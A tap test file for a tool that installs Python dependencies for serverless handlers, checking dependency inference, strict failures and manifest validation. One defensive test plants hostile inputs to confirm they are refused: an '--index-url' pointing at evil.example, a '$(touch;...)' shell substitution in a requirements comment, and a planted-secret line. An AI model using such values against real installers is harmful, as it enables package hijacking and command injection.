import { existsSync, readdirSync } from 'node:fs'
import t from 'tap'
import { makePythonBed } from '../helpers/python-bed.ts'
import { makeTree } from '../helpers/tree.ts'
import { makeWheels } from '../helpers/wheels.ts'

// Interpreters and installers are slow on a busy machine.
t.setTimeout(180_000)

t.test('[dependencies/python.2] comments in the handler are merged with the manifest', async t => {
  const bed = makePythonBed(t, {
    'a/handler.py': '#@requirements alpha<2 gamma-tools\nimport alpha, gam\n',
    'a/requirements.txt': 'beta\n',
  })
  await bed.builds.prepare(bed.fn('a'))
  t.equal(bed.version('a'), "VERSION = '1.0'")
  t.equal(bed.read('a/requirements.txt'), 'beta\n')
  t.match(bed.record('a'), {
    resolved_packages: ['beta==1.0', 'alpha==1.0', 'gamma-tools==3.1'],
    unresolved_imports: [],
  })
})

t.test(
  '[dependencies/python.6] an import that no package is called like fails a strict function, and is a note otherwise',
  async t => {
    const entries = {
      'a/handler.py': 'import json\nimport gam\nimport alpha\n',
      'upper/handler.py': 'import Gam\n',
      'tried/handler.py': 'try:\n    import gam\nexcept ImportError:\n    pass\nimport alpha\n',
    }
    const strict = makePythonBed(t, entries)
    const error = await strict.failure('a')
    t.match(error.message, /^install failed: no package is called like what is imported: a\/handler\.py:2 imports gam$/)
    t.match(error.detail, {
      file: 'a/handler.py',
      line: 2,
      hint: /requirements\.txt.*#@requirements.*FN_AUTO_INFER_STRICT=0/,
    })
    t.notOk(existsSync(strict.tree.path('a/requirements.txt')), 'nothing is written for it')
    t.same(readdirSync(strict.tree.path('a/.deps')).sort(), ['.gitignore', '.svc-deps-state.json'], 'no package')
    t.match((await strict.failure('upper')).message, /upper\/handler\.py:1 imports Gam/)
    await strict.builds.prepare(strict.fn('tried'))
    t.match(strict.record('tried'), { resolved_packages: ['alpha==2.0'], unresolved_imports: ['gam'] })
    const loose = makePythonBed(t, entries, { settings: { autoInferStrict: false } })
    await loose.builds.prepare(loose.fn('a'))
    t.match(loose.record('a'), {
      resolved_packages: ['alpha==2.0'],
      unresolved_imports: ['gam'],
      last_install_status: 'ok',
    })
    t.match(loose.read('a/requirements.txt'), /\nalpha\n$/)
  },
)

t.test(
  '[dependencies/python.3, dependencies/install.13] options, URLs and paths are refused unless a setting allows them',
  async t => {
    const away = makeTree()
    t.teardown(away.cleanup)
    const { PIP_FIND_LINKS: wheels = '' } = makeWheels(away.root, [{ name: 'delta', version: '4' }])
    const entries = {
      'opt/handler.py': '',
      'opt/requirements.txt': `--find-links ${wheels}\ndelta\n`,
      'path/handler.py': '',
      'path/requirements.txt': `alpha\n${wheels}/delta-4-py3-none-any.whl\n`,
      'inline/handler.py': '#@requirements --index-url=http://evil.example\n',
      'other/handler.py': '',
      'other/requirements.txt': 'STOLEN=planted-secret and more\n',
      'shell/handler.py': '#@requirements $(touch;/tmp/fngw-never)\n',
    }
    const bed = makePythonBed(t, entries)
    const errors = await Promise.all(['opt', 'path', 'inline', 'shell', 'other'].map(bed.failure))
    t.match(errors[0], {
      message: /opt\/requirements\.txt:1: "--find-links" is an option$/,
      detail: { line: 1, hint: /FN_PY_REQUIREMENTS_OPTIONS=1/ },
    })
    t.match(errors[1], { message: /path\/requirements\.txt:2: ".*" is a URL or path$/ })
    t.match(errors[2], { message: /inline\/handler\.py:1: "--index-url" is an option$/ })
    t.match(errors[3], { message: /is not the name of a package$/ })
    t.match(errors[4], { message: /other\/requirements\.txt:1: "STOLEN" is not the name of a package$/ })
    t.same(bed.runs, [], 'no tool was started')
    const open = makePythonBed(t, entries, { settings: { pyRequirementsOptions: true } })
    await Promise.all(['opt', 'path'].map(name => open.builds.prepare(open.fn(name))))
    t.equal(open.version('opt', 'delta'), "VERSION = '4'")
    t.equal(open.version('path', 'delta'), "VERSION = '4'")
    t.match(await open.failure('inline'), { message: /is an option$/ })
  },
)

t.test(
  '[dependencies/python.15] an import that may be a file elsewhere is not installed unasked, and a message says what to write where',
  async t => {
    const changed = 'import os, sys\nsys.path.append(os.environ.get("LIB", "x"))\nimport alpha\n'
    const entries = {
      'a/handler.py': 'import json\nimport alpha\n',
      '_shared/alpha.py': '',
      'changed/handler.py': changed,
      'asked/handler.py': changed,
      'asked/requirements.txt': 'alpha\n',
      'found/handler.py': 'import sys\nsys.path.append("../_shared")\nimport alpha, beta\n',
    }
    const bed = makePythonBed(t, entries)
    const error = await bed.failure('a')
    t.equal(
      error.message,
      'install failed: a/handler.py:2 imports alpha, and _shared/alpha.py has that name: no package is installed for it unasked',
    )
    t.match(error.detail, {
      file: 'a/handler.py',
      line: 2,
      hint: /on sys\.path; .* write alpha into requirements\.txt/,
    })
    await Promise.all(['changed', 'asked', 'found'].map(name => bed.builds.prepare(bed.fn(name))))
    t.match(bed.record('changed'), { resolved_packages: [], unresolved_imports: ['alpha'], last_install_status: 'ok' })
    t.same(bed.notes, [
      'changed: alpha: not installed, because changed/handler.py:2 changes sys.path to what cannot be read before it runs; packages must be named in requirements.txt',
    ])
    t.match(bed.record('asked'), { resolved_packages: ['alpha==2.0'], unresolved_imports: [] })
    t.match(bed.record('found'), { inferred_imports: ['beta'], resolved_packages: ['beta==1.0'] })
    t.equal(bed.read('changed/requirements.txt'), null)
    const loose = makePythonBed(t, entries, { settings: { autoInferStrict: false } })
    await loose.builds.prepare(loose.fn('a'))
    t.match(loose.record('a'), { resolved_packages: [], unresolved_imports: ['alpha'] })
    t.match(loose.notes, [/^a: alpha: not installed, because _shared\/alpha\.py has that name; /])
  },
)

t.test(
  '[dependencies/install.14] an import that cannot be installed fails its handler, and neighbours get the rest',
  async t => {
    const bed = makePythonBed(t, {
      'f/bad.py': '\nimport no_such_thing\n',
      'f/good.py': 'import alpha\n',
      'f/plain.py': '',
    })
    const all = ['bad', 'good', 'plain'].map(name => bed.fn('f', [], `${name}.py`))
    bed.builds.retain(new Map(all.map(fn => [fn.key, fn])))
    const [bad, ...others] = await Promise.allSettled(all.map(fn => bed.builds.prepare(fn)))
    t.match(bad, { reason: { message: /f\/bad\.py:2 imports no_such_thing/, detail: { file: 'f/bad.py', line: 2 } } })
    t.same(
      others.map(({ status }) => status),
      ['fulfilled', 'fulfilled'],
    )
    t.match(bed.record('f'), { resolved_packages: ['alpha==2.0'], unresolved_imports: ['no_such_thing'] })
    t.match(bed.said, [/^installing imported packages: .*alpha \(f\/good\.py:1\)/, /: alpha \(f\/good\.py:1\)$/])
    t.equal(bed.said.length, 2)
  },
)

t.test('[dependencies/python.17] packages of imports are installed from wheels only, and only in dev', async t => {
  const source = 'raise SystemExit("built")'
  const entries = { 'f/handler.py': 'import sourced\n', 'g/handler.py': 'import alpha\n' }
  const bed = makePythonBed(t, entries, { sources: { 'sourced-1.0': source } })
  t.match((await bed.failure('f')).message, /f\/handler\.py:1 imports sourced/)
  bed.tree.write({ 'f/requirements.txt': 'sourced\n' })
  t.notMatch((await bed.failure('f')).message, /distribution found for sourced/, 'a package that is named is built')
  const run = makePythonBed(t, entries, { defaults: { autoInferPyDeps: 'report' } })
  t.match(await run.failure('g'), {
    message: /^install failed: g\/handler\.py:1 imports alpha: g\/requirements\.txt names no package for it$/,
    detail: { file: 'g/handler.py', line: 1, hint: /fngw deps add alpha --to g.*FN_AUTO_INFER_PY_DEPS=1/ },
  })
  t.same(run.runs, [])
  t.notOk(existsSync(run.tree.path('g/.deps/alpha')))
})

t.test('[dependencies/python.16] a manifest that is too large is refused before a tool is started', async t => {
  const bed = makePythonBed(t, { 'a/handler.py': '', 'a/requirements.txt': '#'.repeat(1024 * 1024 + 1) })
  const error = await bed.failure('a')
  t.match(error, {
    message: /^install failed: a\/requirements\.txt is larger than 1 MiB$/,
    detail: { file: 'a/requirements.txt', hint: /each on a line/ },
  })
  t.same(bed.runs, [])
})
